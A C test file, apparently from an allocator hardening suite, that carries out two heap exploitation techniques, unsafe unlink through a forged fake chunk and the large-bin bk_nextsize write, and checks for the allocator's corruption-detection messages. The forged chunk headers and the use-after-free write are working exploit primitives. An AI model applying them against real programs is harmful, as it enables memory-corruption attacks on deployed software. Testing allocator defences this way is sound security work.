/*
 * misuse_unlink.c - forged links followed by unlink and by large-bin
 * insertion: the classic unsafe unlink (a fake chunk whose fd/bk point
 * around a global pointer to it, P bit of the next chunk cleared), and the
 * large-bin attack (a large chunk's bk_nextsize forged; sorting a smaller
 * chunk in writes a heap address to the target).  The attacker wins when
 * the target word changes.  See misuse.h.
 */
#include "misuse.h"

static word slots[8];      /* slots[4] holds the program's pointer to A */

static void t_unsafe_unlink(void *arg)
{
    (void)arg;
    tide_test_no_tcache();
    void *a, *b;
    for (int i = 0;; i++) {
        if (i == 64)
            setup_failed("no adjacent pair");
        a = malloc(0x418);
        b = malloc(0x418);
        void *g = malloc(0x18);
        if (next_mem(a) == b && next_mem(b) == g)
            break;
    }
    slots[4] = (word)a;
    word *f = a;
    word fsize = csize(a) - 16;        /* F = A's user area up to B */
    f[0] = 0;
    f[1] = fsize | 1;
    f[2] = (word)&slots[4 - 3];        /* F->fd->bk == slots[4] == F */
    f[3] = (word)&slots[4 - 2];        /* F->bk->fd == slots[4] == F */
    f[4] = 0;                          /* fd_nextsize: not in a nextsize list */
    f[5] = 0;
    W(a)[fsize / 8] = fsize;           /* B's prev_size */
    set_size_word(b, csize(b));        /* overflow clears B's P bit */
    free(b);
    if (slots[4] != (word)a)
        exploited("unsafe unlink: the global pointer to A now reads %#zx (was %p)", (size_t)slots[4], a);
    for (int i = 0; i < 4; i++)
        check_overlap("unsafe unlink", malloc(0x800), 0x800, a, 0x418);
}

static word target[8];

static void t_largebin(void *arg)
{
    (void)arg;
    tide_test_no_tcache();
    word *p1, *p2;
    void *g1, *g2;
    for (int i = 0;; i++) {            /* each with a live guard after it */
        if (i == 64)
            setup_failed("no guarded pair");
        p1 = malloc(0x428);
        g1 = malloc(0x18);
        p2 = malloc(0x418);
        g2 = malloc(0x18);
        if (next_mem(p1) == g1 && next_mem(p2) == g2 && csize(p1) > csize(p2))
            break;
    }
    free(p1);                          /* unsorted */
    void *big = malloc(0x438);         /* sorts p1 into its large bin */
    free(p2);                          /* unsorted, smaller than p1 */
    target[4] = 0;
    W(p1)[3] = (word)&target[4 - 4];   /* UAF: p1->bk_nextsize = &target - 0x20 */
    void *big2 = malloc(0x438);        /* sorts p2: writes p2 to target */
    if (target[4] != 0)
        exploited("large-bin attack: target word now %#zx", (size_t)target[4]);
    harness_sink(g1);
    harness_sink(g2);
    harness_sink(big);
    harness_sink(big2);
}

static const struct technique tab[] = {
    { "unsafe_unlink", t_unsafe_unlink, "cache off: fake chunk in A with fd/bk around &ptr, B's P cleared, free(B)",
      { "free(): corrupted chunk header", "corrupted double-linked list", "corrupted size vs. prev_size",
        "malloc(): corrupted chunk header" }, 0 },
    { "largebin_nextsize", t_largebin, "cache off: large chunk's bk_nextsize := target-0x20, sort a smaller one",
      { "malloc(): largebin double linked list corrupted (nextsize)", "corrupted double-linked list (not small)",
        "malloc(): corrupted chunk header" }, 0 },
};

MISUSE_MAIN("unlink", tab)
